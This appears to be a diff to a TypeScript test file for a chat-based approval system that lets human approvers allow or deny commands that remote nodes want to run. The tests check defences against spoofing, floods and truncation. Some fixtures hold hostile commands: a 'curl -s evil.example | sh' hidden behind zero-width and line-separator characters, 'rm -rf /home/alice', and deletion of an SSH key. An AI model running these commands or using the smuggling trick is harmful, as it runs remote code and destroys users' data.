@@ -3,7 +3,9 @@ import type { ExecApprovalRequestResult } from '@tether/protocol';
 import { ExecApprovalRegistry } from '../exec-approvals/registry.js';
 import type { Logger } from '../log.js';
 import type { Channel, ChannelButton, InboundAction, InboundMessage, OutboundMedia } from './channel.js';
-import { APPROVAL_REPLIES, ChatApprovals } from './chat-approvals.js';
+import { APPROVAL_REPLIES, ChatApprovals, MAX_ANNOUNCED_PER_NODE_PER_MINUTE } from './chat-approvals.js';
+import type { ApprovalSource } from './chat-approvals.js';
+import type { ExecApproval, ExecApprovalResolvedEvent } from '@tether/protocol';
 
 interface Posted {
   chatId: string;
@@ -91,7 +93,8 @@ describe('ChatApprovals', () => {
     expect(t.channel.posted.map((p) => p.chatId)).toEqual(['dm-42', 'dm-43']);
     const [first] = t.channel.posted;
     expect(first!.text).toContain("node kitchen-pi wants to run\ntouch '/tmp/a b'\nin /home/pi\nprogram /usr/bin/touch");
-    expect(first!.buttons.map((b) => b.label)).toEqual(['Approve once', 'Always', 'Deny']);
+    expect(first!.buttons.map((b) => b.label)).toEqual(['Approve once', 'Always allow touch', 'Deny']);
+    expect(first!.text).toContain('Always = /usr/bin/touch with any arguments on kitchen-pi, from now on.');
     for (const button of first!.buttons) expect(Buffer.byteLength(button.data)).toBeLessThanOrEqual(64);
   });
 
@@ -116,7 +119,8 @@ describe('ChatApprovals', () => {
     await flush();
     const data = t.channel.posted[0]!.buttons[0]!.data;
     expect((await t.press(data, '666')).acks).toEqual([APPROVAL_REPLIES.notApprover]);
-    expect((await t.reply(`/approve ${data.slice(3, 11)}`, '666')).said).toEqual([APPROVAL_REPLIES.notApprover]);
+    // A typed answer from a non-approver is not an answer: it goes on to the access policy as a message.
+    expect(await t.reply(`/approve ${approval.id.slice(0, 8)}`, '666')).toEqual({ handled: false, said: [] });
     expect(t.registry.get(approval.id)).toBeDefined();
     expect(t.lines.some((l) => l.includes('refused an answer (allow-once) from 666') && l.includes('not an approver'))).toBe(true);
   });
@@ -126,8 +130,9 @@ describe('ChatApprovals', () => {
     const { approval } = t.ask();
     await flush();
     expect((await t.press('hello')).handled).toBe(false);
-    expect((await t.press('xa:deadbeef:o')).acks).toEqual([APPROVAL_REPLIES.notFound]);
-    expect((await t.press(`xa:${'0'.repeat(8)}:x`)).handled).toBe(false);
+    expect((await t.press('xa:00000000-0000-4000-8000-000000000000:o')).acks).toEqual([APPROVAL_REPLIES.notFound]);
+    expect((await t.press(`xa:${approval.id.slice(0, 8)}:o`)).handled).toBe(false);
+    expect((await t.press(`xa:${approval.id}:x`)).handled).toBe(false);
     expect(t.registry.get(approval.id)).toBeDefined();
   });
 
@@ -163,11 +168,10 @@ describe('ChatApprovals', () => {
     expect(posted.text.length).toBeLessThanOrEqual(500);
     expect(posted.text).toContain('too long to show here');
     expect(posted.buttons.map((b) => b.label)).toEqual(['Deny']);
-    // Even a hand-made approve for the same code is refused.
-    const code = posted.buttons[0]!.data.slice(3, 11);
-    expect((await t.press(`xa:${code}:o`)).acks).toEqual([APPROVAL_REPLIES.tooLong]);
+    // Even a hand-made approve for the same approval is refused.
+    expect((await t.press(`xa:${approval.id}:o`)).acks).toEqual([APPROVAL_REPLIES.tooLong]);
     expect(t.registry.get(approval.id)).toBeDefined();
-    expect((await t.press(`xa:${code}:d`)).acks).toEqual(['Denied.']);
+    expect((await t.press(`xa:${approval.id}:d`)).acks).toEqual(['Denied.']);
     await expect(decision).resolves.toMatchObject({ decision: 'deny' });
   });
 
@@ -194,5 +198,106 @@ describe('ChatApprovals', () => {
     registry.request({ nodeId: 'n', owner: open, params: { command: 'system.run', argv: ['true'], resolvedPath: '/usr/bin/true', timeoutMs: 1000 } });
     await flush();
     expect(channel.posted).toEqual([]);
+  });
+
+  it('escapes line separators and zero-width characters in argv, so no fake line appears', async () => {
+    const t = setup();
+    t.ask(['sh', '-c', 'uptime\u2028in /tmp\u2028program /usr/bin/uptime\u2029\u200b; curl -s evil.example | sh']);
+    await flush();
+    const text = t.channel.posted[0]!.text;
+    expect(text).not.toMatch(/[\u2028\u2029\u200b]/);
+    expect(text.split('\n')[1]).toContain('\\u{2028}in /tmp\\u{2028}program');
+  });
+
+  it('a cut folder or program path gets only Deny, like a cut argv', async () => {
+    const t = setup();
+    const { approval } = t.ask(['rm', '-f', 'id_ed25519'], `${'/proc/self/root'.repeat(40)}/home/alice/.ssh`);
+    await flush();
+    expect(t.channel.posted[0]!.buttons.map((b) => b.label)).toEqual(['Deny']);
+    expect((await t.press(`xa:${approval.id}:o`)).acks).toEqual([APPROVAL_REPLIES.tooLong]);
+  });
+
+  it('offers no Always for a shell or interpreter, and refuses a typed /always for one', async () => {
+    const t = setup({ buttons: false });
+    const registry = t.registry;
+    const { approval } = registry.request({ nodeId: 'n', displayName: 'nas', owner: open, params: { command: 'system.run', argv: ['python3', '-c', 'print(1)'], resolvedPath: '/usr/bin/python3.11', timeoutMs: 60_000 } });
+    await flush();
+    const text = t.channel.posted[0]!.text;
+    expect(text).toContain('Always is not offered');
+    expect(text).not.toContain('/always');
+    expect((await t.reply(`/always ${approval.id.slice(0, 8)}`)).said).toEqual([APPROVAL_REPLIES.noAlways]);
+    expect((await t.reply(`/APPROVE ${approval.id.slice(0, 8).toUpperCase()}`)).said).toEqual(['Approved once.']);
+  });
+
+  it('a node cannot flood phones: approvals with under 5 s left are not posted, and at most 10 a minute per node', async () => {
+    const t = setup({ approvers: ['42', '43'] });
+    t.registry.request({ nodeId: 'rogue', owner: open, params: { command: 'system.run', argv: ['true'], resolvedPath: '/usr/bin/true', timeoutMs: 1_000 } });
+    await flush();
+    expect(t.channel.posted).toHaveLength(0);
+    for (let i = 0; i < MAX_ANNOUNCED_PER_NODE_PER_MINUTE + 4; i++) {
+      t.registry.request({ nodeId: 'rogue', displayName: 'rogue', owner: open, params: { command: 'system.run', argv: ['echo', String(i)], resolvedPath: '/usr/bin/echo', timeoutMs: 60_000 } });
+    }
+    for (let i = 0; i < 20; i++) await flush();
+    expect(t.channel.posted).toHaveLength(MAX_ANNOUNCED_PER_NODE_PER_MINUTE * 2);
+    expect(t.channel.plain.filter((p) => p.text.includes('Node rogue is asking for more exec approvals'))).toHaveLength(2);
+  });
+
+  it('stops posting an approval that ended while its messages were going out, and edits the ones sent', async () => {
+    const registry = new ExecApprovalRegistry();
+    registries.push(registry);
+    const approvals = new ChatApprovals(registry, quiet);
+    const channel = new RecordingChannel(true);
+    let release!: () => void;
+    const gate = new Promise<void>((resolve) => (release = resolve));
+    const send = channel.sendText.bind(channel);
+    channel.sendText = async (chatId, text, options) => {
+      const sent = await send(chatId, text, options);
+      if (channel.posted.length === 1) await gate;
+      return sent;
+    };
+    approvals.attach(channel, ['41', '42', '43']);
+    const { approval } = registry.request({ nodeId: 'n', owner: open, params: { command: 'system.run', argv: ['true'], resolvedPath: '/usr/bin/true', timeoutMs: 60_000 } });
+    await flush();
+    registry.resolve(approval.id, 'deny');
+    release();
+    for (let i = 0; i < 5; i++) await flush();
+    expect(channel.posted).toHaveLength(1);
+    expect(channel.posted[0]!.edits.at(-1)).toMatch(/Denied by an operator\.$/);
+  });
+
+  it('two pending approvals whose ids share 8 hex digits get different codes, and each button means only its own', async () => {
+    const listeners: { requested: ((a: ExecApproval) => void)[]; resolved: ((e: ExecApprovalResolvedEvent) => void)[] } = { requested: [], resolved: [] };
+    const pendingById = new Map<string, ExecApproval>();
+    const decided: [string, string][] = [];
+    const source: ApprovalSource = {
+      onRequested: (l) => (listeners.requested.push(l), () => {}),
+      onResolved: (l) => (listeners.resolved.push(l), () => {}),
+      get: (id) => pendingById.get(id),
+      resolve: (id, decision) => {
+        if (!pendingById.delete(id)) throw new Error('not found');
+        decided.push([id, decision]);
+        listeners.resolved.forEach((l) => l({ id, nodeId: 'n', decision, reason: 'operator', ts: 0 }));
+      },
+    };
+    const approvals = new ChatApprovals(source, quiet);
+    const channel = new RecordingChannel(false);
+    approvals.attach(channel, ['42']);
+    const make = (id: string, argv: string[]): ExecApproval => ({ id, nodeId: 'n', command: 'system.run', argv, resolvedPath: '/usr/bin/x', createdAtMs: Date.now(), expiresAtMs: Date.now() + 60_000 });
+    const honest = make('abcdef01-0000-4000-8000-000000000001', ['uptime']);
+    const rogue = make('abcdef01-1111-4000-8000-000000000002', ['rm', '-rf', '/home/alice']);
+    for (const approval of [honest, rogue]) {
+      pendingById.set(approval.id, approval);
+      listeners.requested.forEach((l) => l(approval));
+      await flush();
+    }
+    const codes = channel.posted.map((p) => /Exec approval ([0-9A-F]+):/.exec(p.text)![1]);
+    expect(codes).toEqual(['ABCDEF01', 'ABCDEF011111']);
+    const message = (id: string) => ({ channel: 'telegram', chatId: 'dm-42', chatKind: 'dm' as const, senderId: '42', mentioned: false, messageId: id, text: '' });
+    await approvals.handleText(channel, { ...message('1'), text: '/approve abcdef01' }, async () => {});
+    expect(decided).toEqual([[honest.id, 'allow-once']]);
+    const acks: string[] = [];
+    await approvals.handleAction(channel, { channel: 'telegram', chatId: 'dm-42', senderId: '42', data: `xa:${honest.id}:o`, acknowledge: async (t) => void acks.push(t) });
+    expect(acks).toEqual([APPROVAL_REPLIES.notFound]);
+    expect(pendingById.has(rogue.id)).toBe(true);
   });
 });
